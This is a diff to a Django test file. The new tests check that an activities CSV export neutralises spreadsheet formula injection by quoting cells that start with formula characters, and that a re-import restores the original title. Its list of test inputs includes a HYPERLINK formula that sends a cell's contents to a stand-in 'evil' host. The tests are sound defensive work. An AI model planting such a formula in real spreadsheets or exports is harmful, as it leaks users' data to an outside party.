@@ -4,6 +4,7 @@ import io
 from decimal import Decimal
 
 import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import connection
 from django.http import StreamingHttpResponse
 from django.test.utils import CaptureQueriesContext
@@ -12,7 +13,7 @@ from django.utils import timezone
 from icalendar import Calendar
 from openpyxl import load_workbook
 
-from activities import exports
+from activities import exports, spreadsheets
 from activities.models import Activity
 from tests import factories
 
@@ -134,7 +135,8 @@ def test_csv_export_holds_what_the_user_may_read(client, outsider, team_member, 
     client.force_login(outsider)
     _header, *rows = csv_rows(client.get(reverse("activities:export-csv")))
     titles = {row[3] for row in rows}
-    assert titles == {"Training on risk assessment", "=Workshop for NPM staff", "Own draft"}
+    # The guard before "=" keeps the title text in a spreadsheet (CSV injection).
+    assert titles == {"Training on risk assessment", "'=Workshop for NPM staff", "Own draft"}
     assert draft.title not in titles
 
 
@@ -305,3 +307,34 @@ def test_csv_export_streams_many_rows_per_piece_with_the_same_content(
     assert len(batched) < 10
     assert all(len(piece) >= 1000 for piece in batched[:-1])
     assert b"".join(batched) == b"".join(one_per_row)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tcmd",
+    "\rcmd",
+]
+
+
+@pytest.mark.parametrize("title", FORMULAS)
+def test_csv_export_writes_a_cell_that_could_start_a_formula_as_text(
+    client, team_member, project, title
+):
+    factories.ActivityFactory(project=project, title=title, city="=1+2")
+    client.force_login(team_member)
+    _header, row = csv_rows(client.get(reverse("activities:export-csv")))
+    assert row[3] == "'" + title
+    assert row[7] == "'=1+2"
+    assert row[2] == "Training"  # other text is left as it is
+
+
+def test_csv_export_read_back_by_the_import_keeps_the_title_as_typed(client, team_member, project):
+    factories.ActivityFactory(project=project, title="=1+2 participants")
+    client.force_login(team_member)
+    exported = b"".join(client.get(reverse("activities:export-csv")).streaming_content)
+    read = spreadsheets.read(SimpleUploadedFile("again.csv", exported))
+    [only] = read.rows
+    assert only["cells"]["title"] == "=1+2 participants"
